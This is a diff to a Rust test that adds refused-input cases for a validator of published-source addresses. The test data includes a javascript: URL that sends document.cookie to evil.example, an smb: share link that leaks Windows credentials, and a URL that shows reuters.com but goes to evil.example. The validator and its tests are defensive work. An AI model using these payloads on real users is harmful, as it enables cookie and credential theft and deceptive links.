@@ -275,6 +275,16 @@ fn bad_input_leaves_the_log_unchanged() {
             "javascript:fetch('//evil.example/?c='+document.cookie)",
             "a javascript: address is not where a source was published (it is code, data or a file on one machine)",
         ),
+        // A share that Windows opens with the user's credentials.
+        (
+            "smb://evil.example/share/report.pdf",
+            "a smb: address is not where a source was published (it is code, data or a file on one machine)",
+        ),
+        // Shows reuters.com, goes to evil.example.
+        (
+            "https://www.reuters.com%2Fworld@evil.example/article",
+            "it has a user name before an @ in its host, so it shows one site and goes to another (a published source's address has none)",
+        ),
     ] {
         refused(
             &w,
